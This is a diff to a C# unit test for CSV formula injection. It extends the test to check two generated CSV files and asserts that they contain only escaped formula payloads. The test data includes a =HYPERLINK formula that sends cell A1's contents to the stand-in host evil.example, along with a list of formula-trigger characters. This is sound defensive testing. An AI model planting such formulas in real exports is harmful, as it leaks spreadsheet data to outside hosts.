@@ -52,9 +52,12 @@ public sealed class CsvInjectionTests
             {{{TestReports.Yaml()}}}
             """).AssertSucceeded();
 
-        var csv = site.Read("output/data/figures.csv");
-        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"临淄\"\")\"", csv, StringComparison.Ordinal);
-        var cells = csv.Split(["\r\n"], StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(row => row.Split(','));
-        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@\t\r".Contains(c[0], StringComparison.Ordinal));
+        foreach (var path in new[] { "output/data/figures-2023.csv", "output/linzi-gxj/figures.csv" })
+        {
+            var csv = site.Read(path);
+            Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"临淄\"\")\"", csv, StringComparison.Ordinal);
+            var cells = TestCsv.Read(csv).Skip(1).SelectMany(row => row);
+            Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@\t\r".Contains(c[0], StringComparison.Ordinal));
+        }
     }
 }
